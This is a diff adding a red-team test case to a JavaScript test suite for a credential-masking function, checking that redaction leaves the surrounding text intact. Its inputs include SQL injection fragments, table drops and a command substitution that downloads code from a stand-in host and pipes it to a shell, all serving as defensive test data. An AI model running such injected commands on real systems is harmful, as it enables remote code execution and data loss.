@@ -209,6 +209,25 @@ describe('masking regulated data', () => {
       expect(maskText(text)).toBe(text);
   });
 
+  it('masks a credential no further than its own characters: the code around it stays on the card (red team, 2026-12-04)', () => {
+    const body = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';
+    for (const [text, shown] of [
+      ['DELETE FROM sessions WHERE user_id = 42 AND (secret=x)OR(1=1)', 'DELETE FROM sessions WHERE user_id = 42 AND ([secret])OR(1=1)'],
+      ['--api_key=x$(curl${IFS}evil.example/x|sh)', '--[secret]$(curl${IFS}evil.example/x|sh)'],
+      ['run --password=s3cr3t|sh', 'run --[secret]|sh'],
+      [
+        'WHERE id = 42; /* signing material: -----BEGIN PRIVATE KEY----- */ DROP TABLE customers;',
+        'WHERE id = 42; /* signing material: [secret] */ DROP TABLE customers;',
+      ],
+      ['x -----BEGIN PRIVATE KEY----- DROP TABLE customers', 'x [secret] DROP TABLE customers'],
+      [`-----BEGIN PRIVATE KEY-----\n${body}\n${body}\nabcd==\n-----END PRIVATE KEY----- then GRANT ALL`, '[secret] then GRANT ALL'],
+      [`-----BEGIN PRIVATE KEY----- ${body} AB== -----END PRIVATE KEY-----`, '[secret]'],
+    ])
+      expect(maskText(text)).toBe(shown);
+    // A password with a dollar sign in it goes whole.
+    expect(maskText('password=pa$$w0rd!')).toBe('[secret]');
+  });
+
   it('never throws, is idempotent, and leaves no valid card number behind (property)', () => {
     const card = fc.constantFrom('4111111111111111', '5500005555555559', '340000000000009');
     fc.assert(
